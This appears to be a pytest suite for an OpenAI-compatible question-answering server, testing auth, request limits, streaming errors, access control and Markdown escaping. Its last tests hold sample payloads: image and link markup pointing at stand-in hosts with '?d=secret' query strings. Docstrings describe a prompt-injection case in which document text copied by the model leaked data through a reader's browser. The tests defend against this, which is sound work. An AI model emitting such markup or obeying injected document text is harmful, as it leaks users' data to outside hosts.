"""The OpenAI-compatible API through the official ``openai`` client (and LangChain's) over real HTTP:
models per retrieval method, plain and streamed answers from the real stand-in with numbered sources
and the evidence in ``hopgraph``, the same tokens and ACL as /v1/answer, the request bounds, errors
before and during a stream, and no markup from titles or the model's words (answer slots:
test_answer_slots.py)."""

from __future__ import annotations

import json
import re

import httpx
import openai
import pytest
from langchain_openai import ChatOpenAI

from hopgraph.retrieve.answer import Answer
from hopgraph.serve.openai import Defused, defused, sources
from tests.ports import dead_port
from tests.serve.chat_support import QUESTION, ask, client_for, one_slot_and_a_silent_llm, stream_events
from tests.serve.support import CODEWORDS, SECRET_DOCUMENTS, USERS, LiveServer, auth, log_lines, wait_until


# ------------------------------------------------------------------------------------ no LLM needed
@pytest.fixture(scope="module")
def server(acl_index, serve_config, tmp_path_factory):
    """The LLM backend is a closed port: everything before generation works, generation fails."""
    llm = serve_config.llm.model_copy(
        update={"base_url": f"http://127.0.0.1:{dead_port()}/v1", "cache": str(tmp_path_factory.mktemp("llm") / "c")}
    )
    with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm})) as live:
        yield live


def test_models_are_the_index_methods_and_need_a_token(server):
    methods = httpx.get(f"{server.url}/v1/index", headers=auth("guest")).json()["methods"]
    listed = client_for(server).models.list()
    assert [m.id for m in listed.data] == [f"hopgraph-{m}" for m in methods] and "hopgraph-ppr" in [
        m.id for m in listed
    ]
    assert all(m.object == "model" and m.owned_by == "hopgraph" for m in listed.data)
    assert client_for(server).models.retrieve("hopgraph-text").id == "hopgraph-text"
    with pytest.raises(openai.NotFoundError):
        client_for(server).models.retrieve("gpt-4o")
    bad = openai.OpenAI(base_url=f"{server.url}/v1", api_key="not-a-known-token-xyz", max_retries=0)
    with pytest.raises(openai.AuthenticationError) as caught:
        bad.models.list()
    assert caught.value.code == "unauthenticated"
    with pytest.raises(openai.AuthenticationError):
        bad.chat.completions.create(**ask("guest"))
    with pytest.raises(openai.AuthenticationError):
        bad.chat.completions.create(**ask("guest"), stream=True)


@pytest.mark.parametrize(
    "change,status,code",
    [
        ({"messages": [{"role": "user", "content": "x" * 2001}]}, 400, "query_too_long"),  # serve.max_query_chars
        ({"model": "gpt-4o"}, 404, "model_not_found"),
        ({"messages": [{"role": "system", "content": "Be brief."}]}, 400, "invalid_request"),  # no user message
        ({"messages": [{"role": "user", "content": "   "}]}, 400, "invalid_request"),
        ({"messages": [{"role": "user", "content": "hi"}] * 257}, 400, "invalid_request"),  # MAX_MESSAGES
        (
            {"messages": [{"role": "assistant", "content": "y" * 200_000}] * 2 + [{"role": "user", "content": "q"}]},
            400,
            "invalid_request",
        ),  # MAX_CONVERSATION_CHARS
        (
            {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:,"}}]}]},
            400,
            "unsupported_content",
        ),
        ({"n": 2}, 400, "invalid_request"),
        ({"temperature": 5}, 400, "invalid_request"),
        ({"tools": [{"type": "function", "function": {"name": "f"}}]}, 400, "invalid_request"),
        ({"functions": [{"name": "f"}]}, 400, "invalid_request"),  # the older spelling of tools
        ({"tool_choice": "required"}, 400, "invalid_request"),  # it would get text, not a tool call
        ({"max_tokens": 10**40}, 400, "invalid_request"),
        ({"response_format": {"type": "json_object"}}, 400, "invalid_request"),
        ({"extra_body": {"hopgraph": {"budget": 10_000_000}}}, 400, "budget_too_large"),  # serve.max_budget
        ({"extra_body": {"hopgraph": {"nonsense": 1}}}, 400, "invalid_request"),
    ],
)
@pytest.mark.parametrize("stream", [False, True])
def test_bad_requests_are_json_errors_the_client_raises(server, change, status, code, stream):
    with pytest.raises(openai.APIStatusError) as caught:
        client_for(server).chat.completions.create(**{**ask("guest"), **change}, stream=stream)
    assert caught.value.status_code == status and caught.value.code == code, caught.value.body


def test_a_content_type_is_echoed_cut(server):
    """Every other part type was echoed whole: a type of a million characters came back in a 1 MB error."""
    parts = [{"type": "x" * 1_000_000}, *({"type": f"kind{i}"} for i in range(30))]
    body = {**ask("guest"), "messages": [{"role": "user", "content": parts}]}
    refused = httpx.post(f"{server.url}/v1/chat/completions", json=body, headers=auth("guest"), timeout=60)
    assert refused.status_code == 400 and refused.json()["error"]["code"] == "unsupported_content"
    assert len(refused.content) < 3000 and "and 11 more" in refused.json()["error"]["message"]


def test_errors_carry_openai_type_and_param_that_the_sdk_reads(server):
    """The SDK's exceptions expose ``type`` and ``param`` from the body (None before they were sent).
    A request the server cannot take is OpenAI's 400, the SDK's BadRequestError (it was 422, an
    UnprocessableEntityError, which code catching BadRequestError missed)."""
    with pytest.raises(openai.BadRequestError) as caught:
        client_for(server).chat.completions.create(**ask("guest"), temperature=5)
    assert (caught.value.type, caught.value.param) == ("invalid_request_error", "temperature")
    with pytest.raises(openai.NotFoundError) as caught:
        client_for(server).chat.completions.create(**{**ask("guest"), "model": "gpt-4o"})
    assert (caught.value.type, caught.value.param) == ("not_found_error", None)
    bad = openai.OpenAI(base_url=f"{server.url}/v1", api_key="not-a-known-token-xyz", max_retries=0)
    with pytest.raises(openai.AuthenticationError) as caught:
        bad.models.list()
    assert caught.value.type == "authentication_error"
    with pytest.raises(openai.InternalServerError) as caught:  # the LLM is a closed port here
        client_for(server).chat.completions.create(**ask("guest"))
    assert (caught.value.status_code, caught.value.type) == (503, "service_unavailable_error")


@pytest.mark.parametrize("stream", ["yes", 1, "true"])
def test_stream_must_be_a_boolean(server, stream):
    """Coerced before: "yes" or 1 streamed, where OpenAI refuses the request."""
    body = {**ask("guest"), "stream": stream}
    answer = httpx.post(f"{server.url}/v1/chat/completions", json=body, headers=auth("guest"))
    assert answer.status_code == 400 and answer.json()["error"]["code"] == "invalid_request", answer.text


def test_harmless_fields_sdks_send_are_accepted(server):
    # Ignored fields pass validation: the request reaches generation, which fails on the closed LLM port.
    fields = {
        "user": "u1",
        "seed": 3,
        "stop": ["\n\n"],
        "max_tokens": 50,
        "temperature": 0.2,
        "top_p": 0.9,
        "presence_penalty": 0,
        "metadata": {"chat": "1"},
        "stream_options": {"include_usage": True},
        "tool_choice": "auto",
    }
    with pytest.raises(openai.InternalServerError) as caught:
        client_for(server).chat.completions.create(**ask("guest"), **fields)
    assert caught.value.status_code == 503 and caught.value.code == "llm_unavailable"


def test_an_llm_that_is_down_is_a_503_before_the_stream_begins(server):
    """A 200 and a first chunk went out before the LLM was asked: the SDK raised a bare APIError
    mid-stream and never retried, where OpenAI answers an unavailable model with its status."""
    with pytest.raises(openai.InternalServerError) as caught:
        client_for(server).chat.completions.create(**ask("guest"), stream=True)
    assert caught.value.status_code == 503 and caught.value.code == "llm_unavailable"
    assert "127.0.0.1" not in caught.value.message
    answer = httpx.post(f"{server.url}/v1/chat/completions", json=ask("guest", stream=True), headers=auth("guest"))
    assert answer.status_code == 503 and answer.headers["content-type"] == "application/json"
    assert int(answer.headers["retry-after"]) >= 1


def test_a_failure_after_the_stream_began_ends_it_with_an_error_event(acl_index, serve_config):
    # Scripted: a model that writes a word every 0.3 s, forever, so that serve.answer_timeout ends
    # the answer after the stream began (the stand-in cannot be made to fail mid-answer).
    from tests.llm.support import ScriptedServer, Trickle

    with ScriptedServer(lambda body, n: (200, Trickle("tide ", every=0.3), 0)) as llm:
        with LiveServer(acl_index, one_slot_and_a_silent_llm(serve_config, llm, answer_timeout=1.5)) as live:
            stream = client_for(live).chat.completions.create(**ask("guest"), stream=True)
            chunks = iter(stream)
            assert next(chunks).choices[0].delta.role == "assistant"
            with pytest.raises(openai.APIError) as caught:
                list(chunks)
            assert caught.value.body["code"] == "llm_unavailable" and "127.0.0.1" not in caught.value.message
            # Raw: the error event is the project's error body, and no [DONE] follows it.
            r, events = stream_events(live)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/event-stream")
    assert json.loads(events[-1].removeprefix("data: "))["error"]["code"] == "llm_unavailable"
    assert "data: [DONE]" not in events and any('"tide' in e for e in events)


def test_a_stream_that_failed_is_logged_and_counted_as_the_error_it_sent(acl_index, serve_config, tmp_path):
    """The stream had already said 200 when its error event went out: the request log and /metrics
    counted it as a success, so an operator could not see failed streams."""
    from tests.llm.support import ScriptedServer, Trickle

    log = tmp_path / "requests.jsonl"
    with ScriptedServer(lambda body, n: (200, Trickle("tide ", every=0.3), 0)) as llm:
        config = one_slot_and_a_silent_llm(serve_config, llm, answer_timeout=1.5, request_log=str(log))
        with LiveServer(acl_index, config) as live:
            r, events = stream_events(live)
            assert r.status_code == 200 and "llm_unavailable" in events[-1]
            wait_until(lambda: any(line["endpoint"] == "/v1/chat/completions" for line in log_lines(log)), timeout=10)
            scraped = httpx.get(f"{live.url}/metrics", headers=auth("admin")).text
    (line,) = [line for line in log_lines(log) if line["endpoint"] == "/v1/chat/completions"]
    assert line["status"] == 200 and line["stream_error"] == {"status": 503, "code": "llm_unavailable"}
    counted = [m for m in scraped.splitlines() if m.startswith("hopgraph_requests_total{") and "chat" in m]
    assert counted and all('status="503"' in m for m in counted), counted


def test_cited_evidence_is_listed_with_its_titles(acl_index, serve_config):
    # Scripted: a model that cites (SmolLM2-135M, the stand-in, rarely writes [n] marks), answering whole
    # although asked to stream, as some OpenAI-compatible servers do.
    from tests.llm.support import ScriptedServer

    with ScriptedServer(lambda body, n: (200, "  Priya Anand chairs it [1], not [99].\n", 0)) as llm:
        llm_config = serve_config.llm.model_copy(update={"base_url": llm.base_url, "model": "scripted", "cache": ""})
        with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm_config})) as live:
            client = client_for(live)
            plain = client.chat.completions.create(**ask("guest"))
            chunks = list(client.chat.completions.create(**ask("guest"), stream=True))
    found = extra_of(plain)
    first = found["evidence"][0]
    names = "; ".join(dict.fromkeys(t or d for d, t in zip(first["doc_ids"], first["titles"])))
    assert found["found"] and [c["evidence"] for c in found["citations"]] == [1] and names
    assert plain.choices[0].message.content == f"Priya Anand chairs it [1], not [99].\n\nSources:\n[1] {names}"
    assert (plain.usage.prompt_tokens, plain.usage.completion_tokens, plain.usage.total_tokens) == (11, 7, 18)
    assert "".join(c.choices[0].delta.content or "" for c in chunks) == plain.choices[0].message.content
    assert extra_of(chunks[-1]) == found and chunks[-1].choices[0].finish_reason == "stop"


def test_a_title_adds_no_markup_to_the_sources_a_chat_client_renders():
    """A title is a document author's words: as Markdown, "![x](http://...)" in one would load that
    address in every reader's browser (Open WebUI renders answers)."""
    # (with a line break, as an index built before titles were stored on one line may hold it)
    title = "Tide memo ![x](http://attacker.example/p.png)\n<img src=x> `code` back\\slash"
    reply = Answer(text="x", found=True, citations=[{"evidence": 1, "doc_ids": ["memo"], "titles": [title]}])
    shown = "Tide memo !\\[x\\](http://attacker.example/p.png) \\<img src=x\\> \\`code\\` back\\\\slash"
    assert sources(reply) == f"\n\nSources:\n[1] {shown}"


HOSTILE = [
    'See [1]. \\<img src="http://evil.example/p.png?d=secret">',  # the model's own backslash first
    "\\<http://evil.example/?d=x> and \\\\<b>x</b> \\![x](http://evil.example/i.png)",
    "![x](http://evil.example/i.png) [a](http://evil.example) <script>x</script> <http://evil.example>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_commonmark_renderer_makes_no_tag_link_or_image_of_the_models_words(text):
    """Rendered as a chat client renders it (CommonMark), whole or streamed in pieces of any cut."""
    from markdown_it import MarkdownIt

    render = MarkdownIt("commonmark").render
    for cut in range(len(text) + 1):
        stream = Defused()
        shown = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.flush()
        assert shown == defused(text)
    html = render(defused(text))
    assert not re.search(r"<(?!/?p>)", html), html  # no element but the paragraph


INJECTED = "See ![logo](http://attacker.example/p.png?d=x) and [x](http://a) <img src=x> [1].\n[1]: http://evil"
DEFUSED = (
    "See !\\[logo]\\(http://attacker.example/p.png?d=x) and [x]\\(http://a) \\<img src=x> [1].\n[1]\\: http://evil"
)


def test_a_line_separator_in_the_answer_does_not_cut_an_event_for_a_line_reader(acl_index, serve_config):
    """U+2028 and U+2029 went into the stream raw: a client reading it by lines with str.splitlines
    (httpx's line reader, requests' iter_lines) cut the event there and could not parse it."""
    from tests.llm.support import ScriptedServer, Trickle

    def reply(body, n):  # scripted: a model that writes the separators (the stand-in will not on demand)
        return (200, Trickle(["Priya\u2028Anand", "\u2029[1]"], every=0.01), 0)

    with ScriptedServer(reply) as llm:
        llm_config = serve_config.llm.model_copy(update={"base_url": llm.base_url, "model": "scripted", "cache": ""})
        with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm_config})) as live:
            body = {**ask("guest"), "stream": True}
            with httpx.stream("POST", f"{live.url}/v1/chat/completions", json=body, headers=auth("guest")) as response:
                lines = [line for line in response.iter_lines() if line.strip()]
    events = [json.loads(line.removeprefix("data: ")) for line in lines if line != "data: [DONE]"]
    words = "".join(e["choices"][0]["delta"].get("content") or "" for e in events if e.get("choices"))
    assert "Priya\u2028Anand" in words and lines[-1] == "data: [DONE]"


def test_the_models_words_add_no_image_or_link_to_the_answer_a_chat_client_renders(acl_index, serve_config):
    """The model copies document text: one document's "![x](http://host/?d=...)" reached the chat
    unescaped, and a client that renders Markdown loaded the address in the reader's browser. The
    [n] marks stay; streamed, an image's "!" and "[" may come in two pieces."""
    from tests.llm.support import ScriptedServer, Trickle

    pieces = ["See !", "[logo](http://attacker.example/p.png?d=x", ") and [x]", "(http://a) <img src=x> [1", "].\n[1]"]
    pieces.append(": http://evil")

    def reply(body, n):  # scripted: a model that writes what a document told it to
        return (200, Trickle(pieces, every=0.01), 0) if body.get("stream") else (200, INJECTED, 0)

    with ScriptedServer(reply) as llm:
        llm_config = serve_config.llm.model_copy(update={"base_url": llm.base_url, "model": "scripted", "cache": ""})
        with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm_config})) as live:
            client = client_for(live)
            plain = client.chat.completions.create(**ask("guest")).choices[0].message.content
            chunks = client.chat.completions.create(**ask("guest"), stream=True)
            streamed = "".join(c.choices[0].delta.content or "" for c in chunks)
    assert plain.startswith(DEFUSED) and streamed.startswith(DEFUSED), (plain, streamed)


# ------------------------------------------------------------------------------------ answers from the stand-in
@pytest.fixture(scope="module")
def answering(acl_index, serve_config, llm_server, tmp_path_factory):
    from hopgraph.config import LLMConfig

    llm = LLMConfig(
        base_url=llm_server.base_url,
        model="smollm2-135m",
        cache=str(tmp_path_factory.mktemp("openai-llm") / "llm.sqlite"),
        max_tokens=96,
        context_tokens=4096,
        timeout=300,
    )
    serve = serve_config.serve.model_copy(update={"answer_timeout": 300.0})
    with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm, "serve": serve})) as live:
        yield live


def extra_of(item) -> dict:
    return (item.model_extra or {})["hopgraph"]


def test_streamed_and_plain_answers_carry_sources_and_evidence(answering):
    client = client_for(answering, timeout=300)
    request = ask("guest", extra_body={"hopgraph": {"budget": 400}})
    chunks = list(client.chat.completions.create(**request, stream=True, stream_options={"include_usage": True}))
    streamed = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    last = next(c for c in chunks if c.choices and c.choices[0].finish_reason)
    usage = chunks[-1].usage
    assert chunks[0].choices[0].delta.role == "assistant" and last.choices[0].finish_reason == "stop"
    assert len({c.id for c in chunks}) == 1 and usage.completion_tokens > 0 and not chunks[-1].choices
    pieces = [c for c in chunks if c.choices and c.choices[0].delta.content]
    assert len(pieces) > 3, "the answer came in one piece: not streamed from the LLM"
    found = extra_of(last)
    assert found["method"] == "text" and found["budget"] == 400 and found["evidence"] and found["version"] == ""
    assert {"answer", "found", "citations", "evidence_dropped"} <= set(found)
    for citation in found["citations"]:  # each cited item is named with its documents' titles
        titles = "; ".join(dict.fromkeys(t or d for d, t in zip(citation["doc_ids"], citation["titles"])))
        assert f"\n[{citation['evidence']}] {titles}" in streamed.split("Sources:")[1]
    assert ("\n\nSources:\n" in streamed) == bool(found["citations"])
    assert streamed == streamed.strip() and streamed
    print(f"streamed in {len(pieces)} pieces: {streamed!r}")

    plain = client.chat.completions.create(**request)
    assert plain.choices[0].message.content == streamed  # the streamed text is the answer (greedy decoding: the same)
    assert plain.choices[0].finish_reason == "stop" and plain.model == "hopgraph-text"
    assert extra_of(plain) == found


def test_a_restricted_reader_never_sees_a_forbidden_document(answering):
    question = "Who pays the Sorvik ferry company, and what did the board plan for its chair Priya Anand?"
    titles = [d["title"] for d in SECRET_DOCUMENTS]
    for user, stream in [("guest", True), ("guest", False)]:
        client = client_for(answering, user, timeout=300)
        request = ask(user, question, extra_body={"hopgraph": {"budget": 600}})
        if stream:
            chunks = list(client.chat.completions.create(**request, stream=True))
            content = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
            found = extra_of(next(c for c in chunks if c.choices and c.choices[0].finish_reason))
        else:
            reply = client.chat.completions.create(**request)
            content, found = reply.choices[0].message.content, extra_of(reply)
        seen = json.dumps(found) + content
        assert found["evidence"] and not [w for w in CODEWORDS.values() if w in seen]
        assert not [t for t in titles if t in seen]
        assert not {d for ev in found["evidence"] for d in ev["doc_ids"]} & set(CODEWORDS)
    # The same question by a reader of both secrets reaches them: the check above is not vacuous.
    allowed = client_for(answering, "admin", timeout=300).chat.completions.create(
        **ask("admin", question, extra_body={"hopgraph": {"budget": 600}})
    )
    assert {"secret-legal", "secret-board"} & {d for ev in extra_of(allowed)["evidence"] for d in ev["doc_ids"]}


def test_langchain_chat_model_streams_and_invokes(answering):
    chat = ChatOpenAI(
        base_url=f"{answering.url}/v1",
        api_key=USERS["guest"]["token"],
        model="hopgraph-text",
        timeout=300,
        max_retries=0,
        extra_body={"hopgraph": {"budget": 400}},
    )
    whole = chat.invoke(QUESTION)
    parts = [p.content for p in chat.stream(QUESTION)]
    assert whole.content and "".join(parts) == whole.content
